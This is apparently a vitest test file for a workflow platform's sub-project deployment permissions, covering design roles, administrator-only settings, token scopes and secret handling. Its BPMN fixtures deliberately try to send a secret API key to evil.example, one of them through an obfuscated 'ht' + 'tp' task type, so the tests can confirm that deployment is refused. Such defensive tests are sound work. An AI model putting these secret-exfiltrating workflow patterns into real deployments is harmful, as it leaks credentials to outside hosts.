import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { newId } from '../../kernel/identifiers.js';
import type { Database } from '../../postgres/database.js';
import { testCaller } from '../../testing/test-caller.js';
import { createTestDatabase, type TestDatabase } from '../../testing/test-database.js';
import type { Caller } from '../../use-case/caller.js';
import { createSubProjects } from '../configuration/sub-projects.js';
import type { SecretsPort } from '../operations/deploy-sub-project.js';
import { subProjectUseCases } from '../use-cases.js';

let database: TestDatabase;
let db: Database;
let useCases: ReturnType<typeof subProjectUseCases>;
let administrator: Caller;
let designer: Caller;
let subProjectId: string;
/** Where the secrets of the sub-project may be sent. */
let hosts: Readonly<Record<string, readonly string[]>>;

const dora = newId();
const abel = newId();

beforeAll(async () => {
  database = await createTestDatabase();
  db = database.db;
  await db`insert into users (id, name, email, kind, created_ts) values
    (${dora}, 'Dora', 'dora@design.example', 'person', now()), (${abel}, 'Abel', 'abel@design.example', 'person', now())`;
  administrator = testCaller(db, { administrator: true });
  designer = testCaller(db, { userId: dora });
  const secrets: SecretsPort = async () => new Map(Object.entries(hosts).map(([name, to]) => [name, { hosts: to }]));
  useCases = subProjectUseCases({
    db,
    subProjects: createSubProjects(db),
    deployed: async () => undefined,
    storagePlugins: ['shelf'],
    secrets,
  });
});
afterAll(() => database.drop());

const roles = [
  { name: 'DESIGNER', design: true },
  { name: 'CLERK', read: ['amount'], call: true },
];
const members = [
  { user: 'dora@design.example', roles: ['DESIGNER'] },
  { user: 'abel@design.example', roles: ['CLERK'] },
];
const base = {
  name: 'Design',
  stages: [{ key: 'request', default: true }],
  fields: { amount: { type: 'number' } },
  roles,
  members,
  workflows: [{ key: 'flow', name: 'Flow', stages: ['request'], file: 'flow.bpmn' }],
};

/** A diagram with one task between its events. */
const diagram = (task: string) => `<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0" targetNamespace="urn:t">
  <process id="flow" isExecutable="true">
    <startEvent id="start"/><sequenceFlow id="f1" sourceRef="start" targetRef="task"/>
    ${task}
    <sequenceFlow id="f2" sourceRef="task" targetRef="end"/><endEvent id="end"/>
  </process>
</definitions>`;
const plain = diagram('<task id="task"/>');
const named = '=&#34;Bearer {{secrets.ERP_KEY}}&#34;';
/** Sends the secret, in the ways there are. */
const sending = {
  'a task': `<serviceTask id="task"><extensionElements><zeebe:taskDefinition type="http"/><zeebe:ioMapping>
    <zeebe:input source="https://evil.example" target="url"/><zeebe:input source="${named}" target="body"/></zeebe:ioMapping></extensionElements></serviceTask>`,
  'a header': `<serviceTask id="task"><extensionElements><zeebe:taskDefinition type="http"/><zeebe:taskHeaders>
    <zeebe:header key="url" value="https://evil.example/{{secrets.ERP_KEY}}"/></zeebe:taskHeaders></extensionElements></serviceTask>`,
  'a type that an expression gives': `<serviceTask id="task"><extensionElements><zeebe:taskDefinition type="=&#34;ht&#34; + &#34;tp&#34;"/><zeebe:ioMapping>
    <zeebe:input source="https://evil.example" target="url"/><zeebe:input source="${named}" target="body"/></zeebe:ioMapping></extensionElements></serviceTask>`,
  'a listener': `<serviceTask id="task"><extensionElements><zeebe:taskDefinition type="work"/><zeebe:ioMapping>
    <zeebe:input source="https://evil.example" target="url"/><zeebe:input source="${named}" target="body"/></zeebe:ioMapping>
    <zeebe:executionListeners><zeebe:executionListener eventType="start" type="http"/></zeebe:executionListeners></extensionElements></serviceTask>`,
};

const deploy = (who: Caller, changes: object = {}, bpmn = plain, more: object = { subProjectId }) =>
  useCases.deploySubProject(who, {
    document: JSON.stringify({ ...base, ...changes }),
    files: { 'flow.bpmn': bpmn },
    ...more,
  });
const refused = (work: Promise<unknown>) =>
  work.then(
    () => expect.fail('it was deployed'),
    ({ id, errors = [], detail }) => ({
      id,
      detail,
      pointers: errors.map(({ pointer }: { pointer: string }) => pointer),
    }),
  );

beforeEach(async () => {
  hosts = {};
  subProjectId = (await deploy(administrator, {}, plain, {})).subProjectId;
});

describe('[D171] a role with design', () => {
  it('reads the configuration and deploys what the sub-project is about', async () => {
    const { document, version } = await useCases.getSubProjectConfiguration(designer, { subProjectId });
    expect(version).toBe('1');
    expect(JSON.parse(document)).toEqual(base);
    const changes = {
      name: 'Redesign',
      description: 'New',
      stages: [...base.stages, { key: 'review' }],
      fields: { amount: { type: 'number', minimum: 0 }, note: { type: 'string' } },
      states: { values: ['INIT', 'DONE'] },
      priorities: { values: ['LOW'], default: 'LOW' },
      calendars: [{ key: 'office', zone: 'Europe/Berlin', week: { MON: ['09:00-17:00'] } }],
    };
    expect(await deploy(designer, changes, diagram('<manualTask id="task"/>'))).toMatchObject({
      version: '2',
      changed: true,
    });
    const [row] =
      await db`select created_by as by from sub_project_versions where sub_project_id = ${subProjectId} and number = 2`;
    expect(row).toEqual({ by: dora });
  });

  it.each([
    ['roles', { roles: [{ name: 'DESIGNER', design: true, read: true, operate: true }, roles[1]] }],
    ['roles', { roles: [...roles, { name: 'BOSS', members: true }] }],
    ['roles', { roles: [roles[0], { ...roles[1], read: true }] }],
    ['members', { members: [{ user: 'dora@design.example', roles: ['DESIGNER', 'CLERK'] }, members[1]] }],
    ['members', { members: [members[0]] }],
    [
      'events',
      { events: [{ key: 'erp', url: 'https://evil.example', owner: 'abel@design.example', types: ['process.*'] }] },
    ],
    ['hooks', { hooks: [{ key: 'in', scheme: 'github', actAs: 'abel@design.example', createProcess: {} }] }],
    ['storage', { storage: { legalHold: true } }],
    ['http', { http: { allowPrivateAddresses: ['127.0.0.1'] } }],
  ])('does not change %s: %j', async (member, changes) => {
    expect(await refused(deploy(designer, changes))).toMatchObject({ id: 1207, pointers: [`/document/${member}`] });
    // A dry run tells the same.
    expect(await refused(deploy(designer, changes, plain, { subProjectId, dryRun: true }))).toMatchObject({ id: 1207 });
    expect(await deploy(administrator, changes)).toMatchObject({ changed: true });
  });

  it('says each part that needs the administrator', async () => {
    const both = { roles: [...roles, { name: 'BOSS', members: true }], storage: { legalHold: true } };
    expect((await refused(deploy(designer, both))).pointers).toEqual(['/document/roles', '/document/storage']);
  });

  it('does not deploy when a name stands for somebody else by now', async () => {
    await db`update users set email = 'old@design.example' where id = ${abel}`;
    await db`insert into users (id, name, email, kind, created_ts) values (${newId()}, 'Other', 'abel@design.example', 'person', now())`;
    expect(await refused(deploy(designer, { name: 'Redesign' }))).toMatchObject({ pointers: ['/document/members'] });
    await db`delete from users where email = 'abel@design.example'`;
    await db`update users set email = 'abel@design.example' where id = ${abel}`;
  });

  it.each(Object.entries(sending))('sends no secret elsewhere: %s', async (_way, task) => {
    expect(await refused(deploy(designer, {}, diagram(task)))).toMatchObject({
      id: 1207,
      pointers: ['/files/flow.bpmn'],
    });
    hosts = { ERP_KEY: [] };
    const { detail } = await refused(deploy(designer, {}, diagram(task)));
    expect(detail).toContain('"ERP_KEY" may be sent to any host');
    hosts = { ERP_KEY: ['erp.example.com'] };
    expect(await deploy(designer, {}, diagram(task))).toMatchObject({ changed: true });
    // What stays as it is may name any.
    hosts = { ERP_KEY: [] };
    expect(await deploy(designer, { description: 'New' }, diagram(task))).toMatchObject({ changed: true });
  });

  it('deploys to no other sub-project, and creates none', async () => {
    const other = (await deploy(administrator, { roles: [roles[1]], members: [members[1]] }, plain, {})).subProjectId;
    expect(await refused(deploy(designer, {}, plain, { subProjectId: other }))).toMatchObject({ id: 1207 });
    expect(await refused(useCases.getSubProjectConfiguration(designer, { subProjectId: other }))).toMatchObject({
      id: 1205,
    });
    expect(await refused(deploy(designer, {}, plain, { subProjectId: newId() }))).toMatchObject({ id: 1202 });
    // The id in the document names none.
    expect(await refused(deploy(designer, { id: subProjectId }, plain, {}))).toMatchObject({
      id: 1207,
      pointers: ['/subProjectId'],
    });
  });

  it('counts with the scope of the token, and admin covers it for administrators alone', async () => {
    const withScopes = (scopes: readonly string[], more: object = {}) =>
      testCaller(db, { userId: dora, scopes, ...more });
    expect(await refused(deploy(withScopes(['process']), { name: 'A' }))).toMatchObject({ id: 1207 });
    expect(await refused(deploy(withScopes(['admin']), { name: 'A' }))).toMatchObject({ id: 1207 });
    expect(await deploy(withScopes(['project.design']), { name: 'A' })).toMatchObject({ changed: true });
    const boss = { administrator: true };
    expect(await deploy(withScopes(['admin'], boss), { storage: { legalHold: true } })).toMatchObject({
      changed: true,
    });
    expect(await useCases.getSubProjectConfiguration(withScopes(['admin'], boss), { subProjectId })).toMatchObject({
      version: '3',
    });
    // Bounded to designing, the administrator designs.
    expect(await refused(deploy(withScopes(['project'], boss)))).toMatchObject({ pointers: ['/document/storage'] });
  });

  it('is judged by the roles of the moment: one that is taken away while the document is read does not deploy', async () => {
    const slow = subProjectUseCases({
      db,
      subProjects: createSubProjects(db),
      deployed: async () => undefined,
      storagePlugins: [],
      secrets: async () => new Map(),
      validate: async (document, files) => {
        await deploy(administrator, { members: [members[1]], roles: base.roles });
        const { loadedValidator } = await import('../document/loaded-validator.js');
        return loadedValidator()(document, files);
      },
    });
    const late = slow.deploySubProject(designer, {
      subProjectId,
      document: JSON.stringify({ ...base, members: [members[1]], name: 'Late' }),
      files: { 'flow.bpmn': plain },
    });
    expect(await refused(late)).toMatchObject({ id: 1207 });
  });
});
